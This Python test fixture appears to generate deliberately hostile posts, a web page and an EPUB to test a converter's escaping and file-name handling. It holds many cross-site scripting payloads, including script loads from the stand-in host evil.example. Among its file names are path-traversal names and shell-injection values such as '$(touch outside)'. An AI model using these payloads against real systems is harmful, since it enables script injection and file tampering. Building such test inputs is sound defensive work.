"""One post that tries everything: each payload in each place that a post has."""

import io
import json
import zipfile
from html import escape

OFF = "https://evil.example"
"""Where each payload would send whoever runs it; nothing may ever ask it."""

ACTIVE = (
    f"<script src={OFF}/s.js></script>",
    "<script>alert(1)</script>",
    f"<img src={OFF}/i.png onerror=alert(2)>",
    "<svg/onload=alert(3)>",
    "<svg><script>alert(4)</script></svg>",
    f"<iframe src={OFF}/f></iframe>",
    "<iframe srcdoc='<script>alert(5)</script>'></iframe>",
    f"<style>@import '{OFF}/c.css';*{{background:url({OFF}/b.png)}}</style>",
    f"<p style=background:url({OFF}/p.png) onmouseover=alert(6)>styled</p>",
    f"<link rel=stylesheet href={OFF}/l.css>",
    f"<base href={OFF}/>",
    f"<meta http-equiv=refresh content='0;url={OFF}/r'>",
    f"<form action={OFF}/g><button>send</button></form>",
    f"<object data={OFF}/o></object><embed src={OFF}/e>",
    f"<video src={OFF}/v autoplay></video><audio src={OFF}/a autoplay onplay=alert(7)></audio>",
    "<details open ontoggle=alert(8)>open</details>",
    "<math><mi//xlink:href='javascript:alert(9)'>x</mi></math>",
    "<a href=javascript:alert(10)>go</a>",
    "</title></script></style></textarea>--><script>alert(11)</script>",
    "]]><script>alert(12)</script><![CDATA[",
    '" onfocus=alert(13) autofocus x="',
    "' onfocus=alert(14) autofocus x='",
    "{{ 7*7 }}{% include 'x' %}${7*7}",
    "<noscript><p title='</noscript><img src=x onerror=alert(15)>'>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(16)</x:script>",
    "&lt;script&gt;alert(17)&lt;/script&gt;",
    "&#x3c;img src=x onerror=alert(18)&#x3e;",
    "-->\n00:00:00.000 --> 00:00:09.000\n<v Eve>Forged.</v>",
    "\x1b]0;owned\x07\x1b[31mred\x1b[0m [bold red]rich[/] [/x] [link=javascript:alert(19)]l[/link]",
    "[[h@l'oU]] <speak><break time='60s'/></speak> (quit) \x01+10V",
    "\u202egnp.exe\u202c \ud7ff\ufeff\u2028line\u2029break",
)
"""Text that some reader of some output takes for more than text."""

TARGETS = (
    "javascript:alert(20)",
    "JaVaScRiPt:alert(21)",
    " java\nscript:alert(22)",
    "\x01javascript:alert(23)",
    "javascript&colon;alert(24)",
    "data:text/html,<script>alert(25)</script>",
    "vbscript:msgbox(26)",
    "file:///etc/passwd",
    f'{OFF}/a"onclick=alert(27)x="',
    f"{OFF}/a'onclick=alert(28)x='",
    f"{OFF}/<script>alert(29)</script>",
    "//evil.example/relative",
    "https://ann:hunter2@evil.example/with-a-password",
    "http://127.0.0.1:9/inside",
    "http://[::1/",
)
"""Where links and pictures of a post may want to lead."""

PLACES = (
    "../../../../outside",
    "/etc/outside",
    "..\\..\\outside",
    "C:\\outside",
    "%2e%2e%2f%2e%2e%2foutside",
    "..%c0%af..%c0%afoutside",
    "outside\0.md",
    ".hidden",
    "-rf",
    "con",
    "a" * 400,
    "~/outside",
    "$(touch outside)`touch outside`;touch outside",
    "|touch outside",
)
"""Names that want to be written elsewhere, or to be a command."""


def markdown(number: int) -> str:
    """A post with one payload throughout its front matter; the first has all in its body."""
    payload = ACTIVE[number % len(ACTIVE)]
    place = PLACES[number % len(PLACES)]
    front = {
        "title": f"Post {number} {payload}",
        "author": f"Author {payload}",
        "url": f"https://forum.example.org/{place.replace(' ', '%20')}/{number}".replace("\0", ""),
        "id": place,
        "slug": place,
        "permalink": place,
        "site": payload,
        "tag": payload,
        "tags": [payload, place],
        "series": payload,
        "copies": list(TARGETS[8:11]),
    }
    lines = [f"{key}: {json.dumps(value)}" for key, value in front.items()]
    body = _body() if number == 0 else [f"## {payload}", "", f"Text {payload}"]
    return "\n".join(["---", *lines, "---", "", "Every word of this is text.", "", *body])


def _body() -> list[str]:
    lines: list[str] = []
    for number, payload in enumerate(ACTIVE):
        lines += [
            f"## Heading {number} {payload}", "",
            f"Text {number}: {payload} and more.", "",
            f"> Quoted {payload}", "",
            f"- item {payload}", "",
            f"Code `{payload}` in a line.[^{number}]", "",
            f"[^{number}]: A note {payload}", "",
            f"| a {number} | b |\n|---|---|\n| {payload.replace('|', ' ')} | cell |", "",
            f"![picture {payload}](https://forum.example.org/{number}.png)", "",
        ]  # fmt: skip
    for number, target in enumerate(TARGETS):
        lines += [
            f'[link {number}](<{target}>) ![drawn {number}](<{target}> "<script>alert(31)</script>")',
            "",
            f"<a href='{target}' onclick='alert(32)'>raw {number}</a> <img src='{target}' alt='x'>",
            "",
        ]
    return lines


def page() -> str:
    """The same as a page of the web, with a dialogue whose speakers have payloads for names."""
    parts = [
        "<!doctype html><html lang='en\" onload=alert(33) x=\"'><head><title>",
        "A page &lt;script&gt;alert(34)&lt;/script&gt;</title>",
        "<meta name=author content='<script>alert(35)</script>'>",
        "<link rel=canonical href='https://forum.example.org/a-page/&quot;&gt;&lt;script&gt;'>",
        "</head><body onload=alert(36)><article><p>Every word of this is text.</p>",
    ]
    for number, payload in enumerate(ACTIVE):
        shown = escape(payload)
        parts += [
            f"<h2 id='{escape(payload, quote=True)}'>Heading {number} {shown}</h2>",
            f"<p>Shown {number}: {shown}</p>{payload}<p>After {number}.</p>",
            "<div class='dialogue-message'><section class='dialogue-message-header'>",
            f"<b>Eve {number} {shown}</b></section>",
            f"<div class='dialogue-message-content'><p>Said: {shown}</p></div></div>",
        ]
    for target in TARGETS:
        parts += [
            f"<p><a href='{escape(target)}' onclick=alert(37)>a link</a>",
            f"<img src='{escape(target)}' alt='a picture'></p>",
        ]
    return "".join([*parts, "</article></body></html>"])


def book() -> bytes:
    """An EPUB whose documents have the names of other places."""
    names = [*PLACES[:6], "../../../META-INF/container.xml"]
    items = "".join(
        f"<item id='i{n}' href='{escape(name)}' media-type='application/xhtml+xml'/>"
        for n, name in enumerate(names)
    )
    spine = "".join(f"<itemref idref='i{n}'/>" for n in range(len(names)))
    package = (
        "<package xmlns='http://www.idpf.org/2007/opf' version='3.0'>"
        "<metadata xmlns:dc='http://purl.org/dc/elements/1.1/'>"
        f"<dc:title>{escape(ACTIVE[1])}</dc:title><dc:creator>{escape(ACTIVE[2])}</dc:creator>"
        f"<dc:identifier>../../outside</dc:identifier></metadata><manifest>{items}</manifest>"
        f"<spine>{spine}</spine></package>"
    )
    container = (
        "<container xmlns='urn:oasis:names:tc:opendocument:xmlns:container' version='1.0'>"
        "<rootfiles><rootfile full-path='package.opf'/></rootfiles></container>"
    )
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        archive.writestr("META-INF/container.xml", container)
        archive.writestr("package.opf", package)
        for number, name in enumerate(names[:-1]):
            text = f"<html><body><h1>Chapter {number} {escape(ACTIVE[1])}</h1>{ACTIVE[number]}<p>Words.</p></body></html>"
            # What the reader looks for, and the name as it is written.
            for stored in {name, name.replace("%2e", ".").replace("%2f", "/")}:
                archive.writestr(stored, text)
    return data.getvalue()
